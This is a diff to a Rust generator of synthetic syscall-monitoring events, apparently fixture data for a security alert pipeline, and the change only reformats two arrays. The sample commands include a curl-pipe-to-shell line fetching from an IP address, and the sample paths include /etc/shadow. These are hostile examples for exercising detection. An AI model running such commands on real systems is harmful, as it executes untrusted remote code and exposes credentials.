@@ -28,9 +28,19 @@ fn events() -> Vec<u8> {
     for i in 0..EVENTS {
         let call = pick(&["execve", "openat", "openat", "openat", "write", "connect", "unlinkat", "rename", "ptrace"]);
         let name = pick(&["nginx", "python3", "bash", "sshd", "postgres", "dpkg", "cron", "java", "tar", "curl"]);
-        let command = pick(&["nginx -g daemon off;", "python3 -m http.server", "curl http://203.0.113.9/x | sh", "tar -czf /srv/b.tgz /etc"]);
+        let command = pick(&[
+            "nginx -g daemon off;",
+            "python3 -m http.server",
+            "curl http://203.0.113.9/x | sh",
+            "tar -czf /srv/b.tgz /etc",
+        ]);
         let path = pick(&["/etc/shadow", "/var/log/syslog", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/home/a/.cache/x"]);
-        let rule = pick(&["Read sensitive file untrusted", "Terminal shell in container", "Kernel activity", "Clear Log Activities"]);
+        let rule = pick(&[
+            "Read sensitive file untrusted",
+            "Terminal shell in container",
+            "Kernel activity",
+            "Clear Log Activities",
+        ]);
         let priority = pick(&["Informational", "Notice", "Warning", "Critical"]);
         let (host, pid, time) = (i % 40, 1000 + i * 7 % 2000, NOW as u64 - 1_000_000_000 + i);
         let line = format!(
